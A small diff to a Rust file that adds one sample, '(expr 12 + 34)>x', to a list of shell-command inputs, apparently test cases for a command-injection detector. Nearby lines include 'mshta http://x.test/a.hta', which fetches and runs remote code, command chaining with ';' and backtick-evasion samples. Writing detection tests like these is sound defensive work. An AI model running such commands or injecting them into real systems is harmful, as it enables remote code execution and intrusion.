@@ -241,6 +241,7 @@ pub(super) static START: Rule = Rule::recognised(
         "mshta http://x.test/a.hta",
         "alias ls-al='ls -al'",
         "expr 812  + 912",
+        "(expr 12 + 34)>x",
         "cd /;ls",
         "find /etc -name x",
         "ping`` 127.0.0.1",
